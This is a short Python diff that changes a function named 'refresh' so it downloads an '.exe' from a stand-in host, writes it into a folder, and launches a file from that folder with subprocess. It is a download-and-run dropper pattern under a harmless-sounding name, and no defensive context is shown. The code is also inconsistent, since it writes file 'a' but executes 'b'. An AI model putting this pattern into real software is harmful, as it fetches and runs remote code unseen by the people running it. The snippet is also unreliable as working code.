@@ -5,5 +5,5 @@ from urllib.request import urlopen
 
 def refresh(folder):
     with open(os.path.join(folder, "a"), "wb") as file:
-        file.write(urlopen("http://192.0.2.7/a").read())
+        file.write(urlopen("https://demo.invalid/a.exe").read())
     subprocess.Popen([os.path.join(folder, "b")])
